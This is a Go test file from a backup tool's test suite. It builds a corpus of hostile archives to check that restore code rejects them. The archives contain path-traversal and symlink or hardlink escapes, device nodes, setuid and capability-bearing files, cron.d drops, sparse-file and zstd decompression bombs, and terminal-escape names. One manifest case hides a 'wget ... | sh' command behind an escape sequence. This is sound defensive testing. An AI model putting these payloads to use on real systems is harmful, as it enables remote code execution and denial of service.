package backup

import (
	"archive/tar"
	"bytes"
	"crypto/sha256"
	"encoding/binary"
	"encoding/hex"
	"encoding/json"
	"flag"
	"fmt"
	"io"
	"os"
	"path/filepath"
	"strconv"
	"strings"
	"testing"
	"time"

	"github.com/klauspost/compress/zstd"
)

// The hostile corpus: hand-made archives, each with a header, a footer and
// (unless the case is about the manifest) a manifest consistent with what the
// tar stream holds — archives that an archive reader checking only checksums
// would verify cleanly. They are committed under testdata/hostile (the
// integration tests restore them into a real stack) and made again here, so
// `go test -run TestHostileCorpus -update-hostile ./stackops/backup` rewrites
// them after a deliberate change and a plain run proves the committed files
// are what this generator makes.

var updateHostile = flag.Bool("update-hostile", false, "rewrite testdata/hostile from the generator")

const hostileDir = "testdata/hostile"

// hostileTime is every hostile archive's time: the files are reproducible.
var hostileTime = time.Date(2026, 1, 2, 3, 4, 5, 0, time.UTC)

// hEntry is one tar entry of a hand-made volume, its Name relative to the
// volume ("" for the root). raw, when set, is written to the tar stream
// instead of hdr (a sparse entry, which archive/tar cannot write); hdr then
// says what a reader sees, for the manifest's digest.
type hEntry struct {
	hdr     tar.Header
	data    []byte
	raw     []byte
	content func(w io.Writer) // the content a reader sees, when not data
}

type hVolume struct {
	key     string
	entries []hEntry
	// files, when not zero, is written to the manifest instead of the count.
	size int64
}

type hDump struct {
	service, name string
	data          []byte
	entry         func(*ManifestEntry)
}

type hostileCase struct {
	name    string
	why     string // what it tries
	header  func(*ArchiveHeader)
	volumes []hVolume
	dumps   []hDump
}

func dirE(name string, mode int64) hEntry {
	return hEntry{hdr: tar.Header{Name: name, Typeflag: tar.TypeDir, Mode: mode}}
}

func fileE(name string, mode int64, data string) hEntry {
	return hEntry{hdr: tar.Header{Name: name, Typeflag: tar.TypeReg, Mode: mode, Size: int64(len(data))}, data: []byte(data)}
}

func linkE(name, target string) hEntry {
	return hEntry{hdr: tar.Header{Name: name, Typeflag: tar.TypeSymlink, Linkname: target, Mode: 0o777}}
}

func hardE(name, target string) hEntry {
	return hEntry{hdr: tar.Header{Name: name, Typeflag: tar.TypeLink, Linkname: target}}
}

// hostileCases is the corpus. Each volume is "data" (mounted at /srv by the
// integration tests' service "files"); each dump is files/notes.
func hostileCases() []hostileCase {
	const esc = "\r\x1b[2K"
	return []hostileCase{
		{name: "manifest-command", why: "a dump whose only restore command is the archive's own, run as root",
			dumps: []hDump{{service: "files", name: "notes", data: []byte("note\n"), entry: func(e *ManifestEntry) {
				e.DumpCommand = []string{"cat", "/srv/notes"}
				e.RestoreCommand = []string{"sh", "-c", "touch /srv/pwned; wget -qO- http://203.0.113.9/x | sh" + esc + "cat > /srv/notes"}
				e.User = "root"
			}}}},
		{name: "control-chars", why: "escape sequences and bidi overrides in every string of the header and manifest",
			header: func(h *ArchiveHeader) {
				h.Tag, h.Host, h.ToolVersion = "ok"+esc+"\x1b]0;owned\x07", "host\u202egnp.exe", "1.0\x9b31m"
				h.Project, h.ID = "hostile\x1b]0;owned\x07"+esc, "20260102-030405\x1b[8m"
			},
			volumes: []hVolume{{key: "data", entries: []hEntry{dirE("", 0o755), fileE("ok.txt", 0o644, "fine\n"), fileE("name"+esc+"\u202e.txt", 0o644, "x")}}}},
		{name: "sparse", why: "a 700-byte sparse entry whose holes make 64 MiB without reading the file (manifest consistent)",
			volumes: []hVolume{{key: "data", entries: []hEntry{dirE("", 0o755), sparseE("hole", 64<<20)}}}},
		{name: "sparse-pib", why: "a sparse entry declaring 1 PiB of holes (the tar reader would produce zeros forever)",
			volumes: []hVolume{{key: "data", size: 1, entries: []hEntry{dirE("", 0o755), sparseE("hole", 1<<50)}}}},
		{name: "symlink-escape", why: "esc -> / then esc/etc/pwn: an entry beneath a symlink",
			volumes: []hVolume{{key: "data", entries: []hEntry{dirE("", 0o755), linkE("esc", "/"), dirE("esc/etc", 0o755), fileE("esc/etc/pwn", 0o644, "pwned\n")}}}},
		{name: "hardlink-escape", why: "a hard link whose target has the volume's prefix but climbs out of it",
			volumes: []hVolume{{key: "data", entries: []hEntry{dirE("", 0o755), fileE("a", 0o644, "a"), hardE("passwd", "volumes/data/../../../etc/passwd")}}}},
		{name: "hardlink-forward", why: "a hard link to a path that is not a file restored before it (through a symlink)",
			volumes: []hVolume{{key: "data", entries: []hEntry{dirE("", 0o755), linkE("l", "/etc"), hardE("shadow", "volumes/data/l/shadow")}}}},
		{name: "device-char", why: "a character device node (/dev/mem's numbers)",
			volumes: []hVolume{{key: "data", entries: []hEntry{dirE("", 0o755), {hdr: tar.Header{Name: "mem", Typeflag: tar.TypeChar, Mode: 0o666, Devmajor: 1, Devminor: 1}}}}}},
		{name: "device-block", why: "a block device node (the first disk)",
			volumes: []hVolume{{key: "data", entries: []hEntry{dirE("", 0o755), {hdr: tar.Header{Name: "sda", Typeflag: tar.TypeBlock, Mode: 0o666, Devmajor: 8, Devminor: 0}}}}}},
		{name: "setuid-cap", why: "a setuid root shell and a file with a security.capability xattr (cap_setuid+ep), one named with escapes",
			volumes: []hVolume{{key: "data", entries: []hEntry{dirE("", 0o755),
				fileE("suid"+esc, 0o4755, "#!/bin/sh\nid\n"),
				{hdr: tar.Header{Name: "capped", Typeflag: tar.TypeReg, Mode: 0o755, Size: 3,
					PAXRecords: map[string]string{"SCHILY.xattr.security.capability": "\x01\x00\x00\x02\x80\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00"}}, data: []byte("cap")},
				fileE("sgid", 0o2755, "g"),
			}}}},
		{name: "outside-symlink", why: "symlinks to an absolute path and up out of the volume (nothing beneath them)",
			volumes: []hVolume{{key: "data", entries: []hEntry{dirE("", 0o755), dirE("d", 0o755), linkE("shadow", "/etc/shadow"), linkE("d/up", "../../etc/passwd"),
				linkE("d/self", ".."), linkE("chain", "d/self/../etc"), linkE("inside", "d"), linkE("abs-inside", "/srv/d"), fileE("keep.txt", 0o644, "kept\n")}}}},
		{name: "fifo", why: "a named pipe, as a real volume may hold (restored)",
			volumes: []hVolume{{key: "data", entries: []hEntry{dirE("", 0o755), {hdr: tar.Header{Name: "pipe", Typeflag: tar.TypeFifo, Mode: 0o600}}, fileE("f", 0o644, "f")}}}},
		{name: "dump-no-services", why: "a dump naming no service (indexing its first service panicked)",
			dumps: []hDump{{service: "files", name: "notes", data: []byte("n\n"), entry: func(e *ManifestEntry) { e.Services = []string{} }}}},
		{name: "oversize", why: "a volume entry larger than the manifest says",
			volumes: []hVolume{{key: "data", size: 10, entries: []hEntry{dirE("", 0o755), fileE("big", 0o644, strings.Repeat("A", 1<<20))}}}},
		{name: "absolute-name", why: "an entry with an absolute path inside the volume's prefix",
			volumes: []hVolume{{key: "data", entries: []hEntry{dirE("", 0o755), fileE("/etc/cron.d/x", 0o644, "* * * * * root id\n")}}}},
		{name: "dotdot-name", why: "an entry whose name climbs out with ..",
			volumes: []hVolume{{key: "data", entries: []hEntry{dirE("", 0o755), fileE("../../../etc/cron.d/x", 0o644, "* * * * * root id\n")}}}},
		{name: "duplicate", why: "a directory replaced by a symlink of the same name, then a file through it",
			volumes: []hVolume{{key: "data", entries: []hEntry{dirE("", 0o755), dirE("d", 0o755), linkE("d", "/etc"), fileE("d/x", 0o644, "x")}}}},
	}
}

// sparseE is a PAX 0.1 sparse entry (GNU.sparse.* records, archive/tar
// expands it on reading): size bytes of which only the last is stored.
func sparseE(name string, size int64) hEntry {
	full := "volumes/data/" + name
	recs := paxRecord("GNU.sparse.map", fmt.Sprintf("%d,1", size-1)) + paxRecord("GNU.sparse.numblocks", "1") +
		paxRecord("GNU.sparse.size", strconv.FormatInt(size, 10))
	var raw bytes.Buffer
	raw.Write(ustarBlock("PaxHeaders/"+name, 'x', int64(len(recs)), 0o644))
	raw.WriteString(recs)
	raw.Write(make([]byte, (512-len(recs)%512)%512))
	raw.Write(ustarBlock(full, '0', 1, 0o644))
	raw.WriteString("x")
	raw.Write(make([]byte, 511))
	e := hEntry{hdr: tar.Header{Name: name, Typeflag: tar.TypeReg, Mode: 0o644, Size: size}, raw: raw.Bytes()}
	if size > 1<<30 {
		return e // too large to digest: its manifest cannot match, and need not
	}
	e.content = func(w io.Writer) {
		zero := make([]byte, 1<<20)
		for left := size - 1; left > 0; {
			n := min(left, int64(len(zero)))
			_, _ = w.Write(zero[:n])
			left -= n
		}
		_, _ = w.Write([]byte("x"))
	}
	return e
}

func paxRecord(k, v string) string {
	size := len(k) + len(v) + 3 // space, =, newline
	size += len(strconv.Itoa(size))
	rec := strconv.Itoa(size) + " " + k + "=" + v + "\n"
	if len(rec) != size {
		size = len(rec)
		rec = strconv.Itoa(size) + " " + k + "=" + v + "\n"
	}
	return rec
}

// ustarBlock is a 512-byte ustar header.
func ustarBlock(name string, typ byte, size int64, mode int64) []byte {
	b := make([]byte, 512)
	copy(b[0:100], name)
	copy(b[100:108], fmt.Sprintf("%07o\x00", mode))
	copy(b[108:116], "0000000\x00")
	copy(b[116:124], "0000000\x00")
	copy(b[124:136], fmt.Sprintf("%011o\x00", size))
	copy(b[136:148], fmt.Sprintf("%011o\x00", hostileTime.Unix()))
	b[156] = typ
	copy(b[257:265], "ustar\x0000")
	copy(b[148:156], "        ")
	sum := 0
	for _, c := range b {
		sum += int(c)
	}
	copy(b[148:156], fmt.Sprintf("%06o\x00 ", sum))
	return b
}

// buildHostile writes one case's archive to path.
func buildHostile(t testing.TB, c hostileCase, path string) {
	t.Helper()
	h := ArchiveHeader{Tool: "stackpilot", ToolVersion: "hostile", ID: "20260102-030405", Project: "hostile", Created: hostileTime,
		Services: []string{"files"}, Volumes: []string{}, Dumps: []string{}, Files: []string{}}
	for _, v := range c.volumes {
		h.Volumes = append(h.Volumes, v.key)
	}
	for _, d := range c.dumps {
		h.Dumps = append(h.Dumps, d.service+"/"+d.name)
	}
	if c.header != nil {
		c.header(&h)
	}
	w, err := createArchive(path, h, nil)
	if err != nil {
		t.Fatal(err)
	}
	for _, v := range c.volumes {
		prefix := "volumes/" + v.key + "/"
		dg := newVolumeDigest()
		for _, e := range v.entries {
			hdr := e.hdr
			hdr.ModTime, hdr.Format = hostileTime, tar.FormatPAX
			link := hdr.Linkname
			if hdr.Typeflag == tar.TypeLink {
				link = strings.TrimSuffix(strings.TrimPrefix(hdr.Linkname, prefix), "/")
			}
			hdr.Name = volumeEntryName(prefix, e.hdr.Name, hdr.Typeflag == tar.TypeDir)
			if e.raw != nil {
				if err := w.tw.Flush(); err != nil {
					t.Fatal(err)
				}
				if _, err := w.zw.Write(e.raw); err != nil {
					t.Fatal(err)
				}
			} else if err := w.tw.WriteHeader(&hdr); err != nil {
				t.Fatal(err)
			} else if _, err := w.tw.Write(e.data); err != nil {
				t.Fatal(err)
			}
			dg.header(e.hdr.Name, &hdr, link)
			if hdr.Typeflag == tar.TypeReg {
				cw := &countWriter{w: dg.h}
				if e.content != nil {
					e.content(cw)
				} else if e.raw == nil {
					_, _ = cw.Write(e.data)
				}
				dg.size += cw.n
			}
		}
		me := ManifestEntry{Kind: EntryVolume, Path: prefix, Volume: v.key, EngineVolume: "hostile_" + v.key, Target: "/srv", Services: []string{"files"},
			Size: dg.size, SHA256: dg.sum(), Files: dg.files}
		if v.size != 0 {
			me.Size = v.size
		}
		w.manifest.Entries = append(w.manifest.Entries, me)
	}
	for _, d := range c.dumps {
		e := ManifestEntry{Kind: EntryDump, Path: "dumps/" + d.service + "/" + d.name + "/", Services: []string{d.service}, Dump: d.name}
		if err := w.addDump(e, bytes.NewReader(d.data), nil); err != nil {
			t.Fatal(err)
		}
		if d.entry != nil {
			d.entry(&w.manifest.Entries[len(w.manifest.Entries)-1])
		}
	}
	if _, err := w.commit(); err != nil {
		t.Fatal(err)
	}
}

type countWriter struct {
	w io.Writer
	n int64
}

func (c *countWriter) Write(p []byte) (int, error) {
	c.n += int64(len(p))
	return c.w.Write(p)
}

// buildBomb writes an archive whose volume holds one file declared 1 TiB
// long, its content a zstd frame of RLE blocks: every 4 bytes of the file
// decompress to 128 KiB of zeros, so blocks*128 KiB of data come out of a
// file a reader has long finished reading. Its end marker is consistent (it
// opens and verifies until the data runs out).
func buildBomb(t testing.TB, path string, blocks int) {
	t.Helper()
	h := ArchiveHeader{Tool: "stackpilot", ToolVersion: "hostile", ID: "20260102-030405", Project: "hostile", Created: hostileTime,
		Services: []string{"files"}, Volumes: []string{"data"}, Dumps: []string{}, Files: []string{}, Format: archiveFormat, Compression: "zstd"}
	var out bytes.Buffer
	hb, _ := json.Marshal(h)
	if err := writeSkippable(&out, headerFrameMagic, append(append([]byte(archiveHeaderMagic), hb...), '\n')); err != nil {
		t.Fatal(err)
	}
	headerLen := out.Len()
	var tarHead bytes.Buffer
	tw := tar.NewWriter(&tarHead)
	_ = tw.WriteHeader(&tar.Header{Name: "volumes/data/", Typeflag: tar.TypeDir, Mode: 0o755, ModTime: hostileTime, Format: tar.FormatPAX})
	_ = tw.WriteHeader(&tar.Header{Name: "volumes/data/endless", Typeflag: tar.TypeReg, Mode: 0o644, Size: 1 << 40, ModTime: hostileTime, Format: tar.FormatPAX})
	enc, _ := zstd.NewWriter(&out, zstd.WithEncoderConcurrency(1))
	_, _ = enc.Write(tarHead.Bytes())
	_ = enc.Close()
	// Frame header: magic, descriptor (no content size, no checksum), window 128 KiB.
	out.Write([]byte{0x28, 0xb5, 0x2f, 0xfd, 0x00, 0x38})
	const blockSize = 128 << 10
	for i := 0; i < blocks; i++ {
		bh := uint32(blockSize<<3 | 1<<1)
		if i == blocks-1 {
			bh |= 1
		}
		out.Write([]byte{byte(bh), byte(bh >> 8), byte(bh >> 16), 0x00})
	}
	sum := sha256.Sum256(out.Bytes())
	footer := fmt.Sprintf("%s%s body=%020d\n", archiveFooterPrefix, hex.EncodeToString(sum[:]), out.Len()-headerLen)
	var frame [8]byte
	binary.LittleEndian.PutUint32(frame[:4], footerFrameMagic)
	binary.LittleEndian.PutUint32(frame[4:], uint32(len(footer)))
	out.Write(frame[:])
	out.WriteString(footer)
	if err := os.WriteFile(path, out.Bytes(), 0o600); err != nil {
		t.Fatal(err)
	}
}

// bombBlocks makes the committed bomb: 256 KiB of file, 8 GiB of zeros.
const bombBlocks = 64 << 10

func hostileFile(name string) string { return filepath.Join(hostileDir, "hostile_"+name+archiveExt) }

// TestHostileCorpus proves the committed corpus is the generator's output,
// and (with -update-hostile) writes it.
func TestHostileCorpus(t *testing.T) {
	tmp := t.TempDir()
	cases := hostileCases()
	names := []string{"bomb"}
	for _, c := range cases {
		names = append(names, c.name)
	}
	for _, name := range names {
		p := filepath.Join(tmp, filepath.Base(hostileFile(name)))
		if name == "bomb" {
			buildBomb(t, p, bombBlocks)
		} else {
			for _, c := range cases {
				if c.name == name {
					buildHostile(t, c, p)
				}
			}
		}
		got, err := os.ReadFile(p)
		if err != nil {
			t.Fatal(err)
		}
		if *updateHostile {
			if err := os.MkdirAll(hostileDir, 0o755); err != nil {
				t.Fatal(err)
			}
			if err := os.WriteFile(hostileFile(name), got, 0o644); err != nil {
				t.Fatal(err)
			}
			continue
		}
		want, err := os.ReadFile(hostileFile(name))
		if err != nil {
			t.Fatalf("%v — write the corpus with: go test -run TestHostileCorpus -update-hostile ./stackops/backup", err)
		}
		if !bytes.Equal(got, want) {
			t.Errorf("%s differs from the generator's output (%d bytes, generated %d) — rewrite with -update-hostile", hostileFile(name), len(want), len(got))
		}
	}
}
